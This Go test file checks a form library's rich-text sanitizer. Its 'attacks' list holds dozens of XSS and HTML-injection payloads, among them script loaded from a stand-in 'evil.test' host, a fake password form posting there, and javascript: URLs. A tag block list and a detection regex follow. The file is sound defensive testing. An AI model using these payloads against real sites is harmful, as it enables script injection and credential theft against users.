package io_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/stagedoor/stagedoor/io"
)

func TestRichTextAnswers(t *testing.T) {
	answers[string]{
		bad: map[string]string{
			`null`: required, `""`: required, `"<p></p>"`: required, `"<p> &nbsp; </p><br>"`: required, `"<script>alert(1)</script>"`: required,
			`7`: misfit, `{"html":"<p>x</p>"}`: misfit, `["<p>x</p>"]`: misfit, `"<p>a\u0000</p>"`: "This contains a character that cannot be kept.",
			`"<p>a</p>"`: "Enter between 2 and 30 characters.", `"<p>` + strings.Repeat("&amp;", 31) + `</p>"`: "Enter between 2 and 30 characters.",
			`"<p>` + strings.Repeat("x", 256<<10) + `</p>"`: "This is too long.",
		},
		good: map[string]string{
			`"<h1>Heading 1</h1><p><em>Emphasis</em></p><p><u>Underline</u></p>"`: "<h1>Heading 1</h1><p><em>Emphasis</em></p><p><u>Underline</u></p>",
			`"<p>Hi <b>there</b></p>"`:                                     "<p>Hi <b>there</b></p>",
			`"<ol start=\"3\"><li><p>a &amp; b</p></li></ol>"`:             `<ol start="3"><li><p>a &amp; b</p></li></ol>`,
			`"<p><a href=\"https://example.com/?a=b&amp;c\">link</a></p>"`: `<p><a href="https://example.com/?a=b&amp;c">link</a></p>`,
			`"<p>` + strings.Repeat("&amp;", 30) + `</p>"`:                 "<p>" + strings.Repeat("&amp;", 30) + "</p>",
		},
	}.check(t, "Letter", io.RichText("Letter").MinLength(2).MaxLength(30), same)
}

// attacks are texts that try to bring more than formatted text.
var attacks = []string{
	`<script>alert(1)</script>`, `<scr<script>ipt>alert(1)</script>`, `<ScRiPt src=//evil.test/x.js></ScRiPt>`, `<script/x>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="https://evil.test/pixel.png">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><foreignObject><p onclick=x>y`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<p onclick=alert(1)>x</p>`, `<p style="position:fixed">x</p>`, `<p class="button" id="result">x</p>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" java&#10;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="jAvAsCrIpT&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.test">x</a>`,
	`<a href="/admin/refunds">x</a>`, `<a href="https://example.com" target="_self" onclick="x" ping="https://evil.test">x</a>`, `<a name=location id=location>x</a>`,
	`<form action=https://evil.test><input name=password><button>Sign in</button></form>`, `<iframe src=https://evil.test></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data=x></object><embed src=x>`, `<link rel=stylesheet href=//evil.test>`, `<style>*{display:none}</style>`, `<meta http-equiv=refresh content="0;url=//evil.test">`,
	`<base href=//evil.test>`, `<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<video src=x onloadstart=x></video><audio src=x>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<select><option>x</option></select><textarea>x</textarea>`, `<dialog open>x</dialog>`, `<p><!-- <img src=x onerror=alert(1)> --></p>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><p>x</p>`, `<p/onclick=alert(1)//>x`, "<p\x0bonclick=alert(1)>x</p>", `"><img src=x onerror=alert(1)>`, `<<img src=x onerror=alert(1)>`,
	`<h1 contenteditable autofocus onfocus=alert(1)>x</h1>`, `<ol start="1 onclick=alert(1)"><li>x</li></ol>`, `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
}

func TestRichTextIsClean(t *testing.T) {
	for _, attack := range attacks {
		run, got := asking(t, io.RichText("Letter").Default(attack))
		var props struct{ DefaultValue string }
		s := run.Expect("Letter")
		s.Props(&props)
		s.Answer("<p>x</p>" + attack)
		finish(t, run)
		for _, clean := range []string{props.DefaultValue, *got} {
			for _, bad := range []string{
				"<script", "<img", "<svg", "<math", "<form", "<input", "<button", "<iframe", "<object", "<embed", "<link", "<style", "<meta", "<base", "<template",
				"<video", "<audio", "<details", "<marquee", "<select", "<textarea", "<dialog", "<table", "<!--", "<?", "href=\"/", "href=\"java", "href=\"jAv", "href=\"data", "href=\"vb",
			} {
				if strings.Contains(strings.ToLower(clean), strings.ToLower(bad)) {
					t.Errorf("%q becomes %q: %s in it", attack, clean, bad)
				}
			}
			if tag := oddAttribute.FindString(clean); tag != "" {
				t.Errorf("%q becomes %q: %s in it", attack, clean, tag)
			}
		}
	}
}

// oddAttribute finds a tag with an attribute other than href and start.
var oddAttribute = regexp.MustCompile(`<[a-z0-9]+\s+(?:[^hs>]|h[^r]|s[^t])[^>]*>`)

func TestRichTextInForms(t *testing.T) {
	type letter struct {
		Body string `io:"richtext" validate:"required"`
		Note string `io:"richtext"`
	}
	run, got := asForm(t, io.Form(letter{Body: "<p>Hi</p>"}))
	run.Expect("Body").AnswerAll("<p></p>", nil)
	if m := run.Expect("Body").Message(); m != required {
		t.Errorf("message %q", m)
	}
	run.Expect("Body").AnswerAll("<p>Ho</p>", nil)
	finish(t, run)
	if *got != (letter{Body: "<p>Ho</p>"}) {
		t.Fatalf("got %+v", *got)
	}
}
